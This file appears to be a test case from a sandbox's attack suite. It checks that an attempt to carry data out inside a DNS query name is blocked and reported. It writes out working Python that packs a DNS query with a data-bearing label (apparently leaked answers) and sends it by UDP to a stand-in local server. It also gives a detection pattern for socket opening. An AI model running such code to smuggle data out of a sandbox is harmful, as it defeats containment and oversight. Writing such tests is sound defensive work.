"""Carry data out as the name in a DNS query."""

from tests.attacks.attack import Attack

ATTACK = Attack(
    tries="sends a server of its own a query whose name holds what it wants out",
    must="no datagram leaves, and the attempt is told",
    then=(
        r"""
import socket, struct
label = b"the-answers-are-2x"
query = struct.pack("!6H", 1, 256, 1, 0, 0, 0)
query += bytes([len(label)]) + label + b"\x00" + struct.pack("!2H", 16, 1)
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, ("127.0.0.1", $UDP))
""",
    ),
    named=r"open a socket of family AF_INET\b",
)
